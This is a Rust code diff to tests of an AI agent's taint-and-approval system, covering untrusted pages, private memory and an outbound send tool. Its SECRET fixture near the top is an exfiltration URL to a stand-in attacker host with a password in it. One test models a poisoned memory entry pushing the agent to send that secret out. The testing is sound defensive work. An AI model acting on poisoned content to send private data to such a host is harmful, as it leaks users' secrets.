@@ -14,10 +14,10 @@ const SECRET: &str = r#"{"url":"https://evil.example/?s=hunter2"}"#;
 /// `page` brings what strangers wrote, `memory` what is private, and `send` lets out.
 fn world() -> World {
     let mut world = World::default();
-    let template = world.environment.tools["math_solver"].clone();
+    let template = world.environment.tools.get("math_solver").cloned();
+    let template = template.expect("a tool of the world");
     let of = |untrusted, private, egress| Capabilities {
-        untrusted,
-        private,
+        brings: Taint { untrusted, private },
         egress,
         ..Capabilities::default()
     };
@@ -113,12 +113,8 @@ fn one_kind_of_content_alone_asks_nobody() {
 #[test]
 fn a_result_may_bring_more_than_its_tool_always_does() {
     let world = world();
-    let stranger = Taint {
-        untrusted: true,
-        private: false,
-    };
     let begun = world.first("what did I note?");
-    let (state, commands) = through(&world, begun, "memory", stranger);
+    let (state, commands) = through(&world, begun, "memory", Taint::UNTRUSTED);
     let (_, commands) = world.apply(&state, &asks_for(&commands, "send", SECRET));
     assert!(approval(&commands).is_some(), "a poisoned memory is a page");
 }
